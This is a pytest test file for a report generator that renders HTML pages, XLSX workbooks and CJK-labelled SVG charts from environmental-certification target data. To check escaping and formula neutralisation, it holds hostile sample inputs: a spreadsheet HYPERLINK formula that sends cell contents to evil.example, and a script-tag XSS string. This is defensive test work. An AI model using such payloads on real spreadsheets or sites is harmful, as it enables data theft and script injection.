"""The report's HTML and XLSX from a hand-made ReportData (no database): charts present, text from the
sources escaped in the HTML and neutralised in the workbook, the same data giving the same bytes."""

from __future__ import annotations

import os
import re
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from greencert.report import charts, html, workbook
from greencert.report.data import Region, ReportData, Target

AS_OF = date(2025, 7, 2)
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


def target(
    tid: str,
    actual: str | None,
    target_value: str | None = "100",
    status: str = "滞后",
    unit: str = "张",
    kind: str = "target",
) -> Target:
    return Target(
        target_id=tid,
        kind=kind,
        clause="（七）",
        indicator_zh="环境管理体系认证证书",
        metric_en="EMS certificates",
        unit_zh=unit,
        comparator=">=" if target_value else None,
        target_value=Decimal(target_value) if target_value else None,
        baseline_value=None,
        policy_start=date(2022, 7, 19),
        deadline=date(2025, 12, 31) if target_value else None,
        actual_value=Decimal(actual) if actual is not None else None,
        percent_of_target=(Decimal(actual) * 100 / Decimal(target_value)).quantize(Decimal("0.1"))
        if actual is not None and target_value
        else None,
        trajectory_value=Decimal("89.5") if target_value else None,
        projected_value=Decimal("120.0") if target_value else None,
        progress_status=status,
    )


def data() -> ReportData:
    targets = [
        target("T06", "60"),
        target("T04", "71.5", "75", "进度正常", unit="%"),
        target("T11", None, "10", "未接入"),
        target("I01", "7", None, "监测", kind="indicator"),
    ]
    regions = [
        Region(
            "320583", "昆山市", "Kunshan", {"T06": Decimal(40), "T04": Decimal("80.1"), "T11": None, "I01": Decimal(7)}
        ),
        Region(
            "000000", "未定位", "Not located", {"T06": Decimal(20), "T04": Decimal(0), "T11": None, "I01": Decimal(0)}
        ),
    ]
    return ReportData(
        as_of=AS_OF,
        published_at="2025-07-02 23:41",
        targets=targets,
        regions=regions,
        history={"T06": [(date(2025, 6, 30), Decimal(50)), (date(2025, 7, 1), Decimal(55)), (AS_OF, Decimal(60))]},
        batches=[
            {
                "feed": "certificates",
                "source_file": EVIL,
                "status": "accepted",
                "rows": 3,
                "reason": None,
                "quarantined": 1,
            },
            {
                "feed": "green_food",
                "source_file": "<script>alert(1)</script>.xlsx",
                "status": "rejected",
                "rows": None,
                "reason": "not an XLSX",
                "quarantined": 0,
            },
        ],
        quarantine_rules=[("certificates", "cert_no", 1)],
        mart_checks=[
            {
                "expectation": "expect_column_values_to_not_be_null",
                "column_name": "target_id",
                "success": True,
                "severity": "critical",
                "observed": "0 unexpected",
            }
        ],
    )


def test_html_has_its_three_charts_and_escapes_what_the_sources_sent() -> None:
    page = html.render(data())
    assert re.findall(r'<svg id="([a-z-]+)" class="chart"', page) == ["chart-progress", "chart-heatmap", "chart-trends"]
    assert "<script>" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;.xlsx" in page
    assert not re.search(r'(src|href)="https?:|<link|url\(https?:', page)  # nothing to fetch: it stands alone
    assert "未接入" in page and "进度正常" in page and "71.5%" in page
    assert page == html.render(data())  # the same data, the same bytes (charts included)


def test_workbook_sheets_and_formula_text_neutralised(tmp_path) -> None:
    path = workbook.write(data(), tmp_path / "report.xlsx")
    book = load_workbook(path)
    assert book.sheetnames == ["目标 Targets", "320583 昆山市", "000000 未定位", "数据质量 Data quality"]
    targets = {r[0]: r for r in book["目标 Targets"].iter_rows(min_row=3, values_only=True)}
    assert targets["T06"][5] == 60 and targets["T04"][5] == 71.5 and targets["T11"][5] is None
    quality = book["数据质量 Data quality"]
    files = [c.value for c in quality["B"] if c.value]
    assert "'" + EVIL in files  # stored with a leading apostrophe: shown as text, never run
    assert all(c.data_type != "f" for row in quality.iter_rows() for c in row)
    kunshan = {r[0]: r for r in book["320583 昆山市"].iter_rows(min_row=3, values_only=True)}
    assert kunshan["T06"][4] == 40 and kunshan["T06"][5] == 66.7 and kunshan["T11"][4] == "未接入 not yet fed"


def test_safe_text() -> None:
    assert [workbook.safe_text(v) for v in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "苏州", 5, None)] == [
        "'=1+1",
        "'+1",
        "'-1",
        "'@SUM(A1)",
        "'\t=1",
        "苏州",
        5,
        None,
    ]


def _glyphs(svg: str) -> set[tuple[str, int]]:
    """(font, glyph index) of every glyph path the SVG defines: matplotlib names each path
    <font's PostScript name>-<hex glyph index>, and draws the text as <use>s of them."""
    return {
        (font, int(glyph, 16)) for font, glyph in re.findall(r'<path id="([A-Za-z0-9_.]+-[A-Za-z]+)-([0-9a-f]+)"', svg)
    }


def test_charts_are_chinese_first_drawn_as_glyph_paths_with_no_missing_glyph() -> None:
    """The charts' labels are Chinese (English beside them where it helps), drawn as glyph paths of
    the CJK font (so the SVG reads the same on a machine without one), matplotlib's comment beside
    each label keeping its text; every glyph drawn is one its font has (none fell back to a box)."""
    from matplotlib import font_manager

    try:
        family = charts.cjk_font()
    except charts.MissingFont:
        if os.environ.get("CI"):
            raise
        pytest.skip("no CJK font here: make fonts (Debian's fonts-noto-cjk)")
    d = data()
    svgs = {"progress": charts.progress_bars(d), "heatmap": charts.heat_map(d), "trends": charts.trends(d)}
    labels = {
        "progress": ["T06 环境管理体系认证证书", "2025 年目标完成率", "未接入 not yet fed"],
        "heatmap": ["320583 昆山市", "000000 未定位", "占全市比例 share of the city's total"],
        "trends": ["T06 环境管理体系认证证书 · 滞后", "进度线 trajectory", "实际 actual", "预测 projection"],
    }
    cmaps = {}
    for name in (family, "DejaVu Sans"):
        font = font_manager.get_font(
            font_manager.findfont(font_manager.FontProperties(family=name), fallback_to_default=False)
        )
        cmaps[font.postscript_name.replace(" ", "")] = font.get_charmap()
    for chart, svg in svgs.items():
        assert "<text" not in svg, chart  # no text left for the reader's fonts to draw
        comments = re.findall(r"<!-- (.*?) -->", svg, re.S)
        for label in labels[chart]:
            assert any(label in c for c in comments), (chart, label)
        glyphs = _glyphs(svg)
        assert {font for font, _ in glyphs} <= set(cmaps), chart
        # glyph 0 is a font's .notdef, the box drawn for a character it lacks; and every character of
        # every label is one the fonts have (shaping may draw some with glyphs of their own)
        assert {(font, g) for font, g in glyphs if g == 0} == set(), chart
        assert charts.missing_glyphs(comments) == [], chart
        ideographs = {(font, g) for font, cmap in cmaps.items() for code, g in cmap.items() if 0x4E00 <= code <= 0x9FFF}
        assert len(glyphs & ideographs) >= 5, chart  # the Chinese is drawn, as paths of CJK glyphs
    assert charts.missing_glyphs(["苏州 Suzhou", "\U0010fffd"]) == ["\U0010fffd"]
